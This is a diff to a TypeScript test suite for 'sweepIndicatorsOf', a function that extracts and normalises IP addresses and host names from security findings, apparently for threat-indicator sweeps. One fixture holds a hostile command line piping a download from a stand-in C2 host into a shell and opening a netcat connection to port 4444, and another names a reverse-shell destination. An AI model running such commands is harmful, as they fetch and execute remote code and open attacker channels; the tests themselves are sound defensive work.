@@ -27,6 +27,8 @@ describe('sweepIndicatorsOf', () => {
     ['the destination, public', { sourceProperties: { Reverse_Shell_Stdin_Redirection_Dst_Ip: '203.0.113.45' } }, ['203.0.113.45'], []],
     ['no private, link-local or metadata address', { indicator: { ipAddresses: ['10.0.0.1', '169.254.169.254', '127.0.0.1', '198.51.100.23'] } }, ['198.51.100.23'], []],
     ['host names, lower case, without the final dot, valid only', { indicator: { domains: ['C2.BadCDN.example.', 'metadata.google.internal', 'a" OR "', 'x'] } }, [], ['c2.badcdn.example']],
+    ['addresses in the spelling the logs use', { indicator: { ipAddresses: ['2001:DB8:0:0::1', '::ffff:8.8.4.4', ' 198.51.100.23 '] } }, ['2001:db8::1', '8.8.4.4', '198.51.100.23'], []],
+    ['no address as a host name', { indicator: { domains: ['1.2.3.4', 'c2.badcdn.example'] } }, [], ['c2.badcdn.example']],
     ['the command line', { processes: [{ args: ['sh', '-c', 'curl http://c2.badcdn.example/x | sh; nc 198.51.100.23 4444'] }] }, ['198.51.100.23'], ['c2.badcdn.example']],
   ])('%s', (_case, fields, ips, hosts) => {
     expect(sweepIndicatorsOf(finding(fields as Partial<Finding>))).toEqual({ ips, hosts });
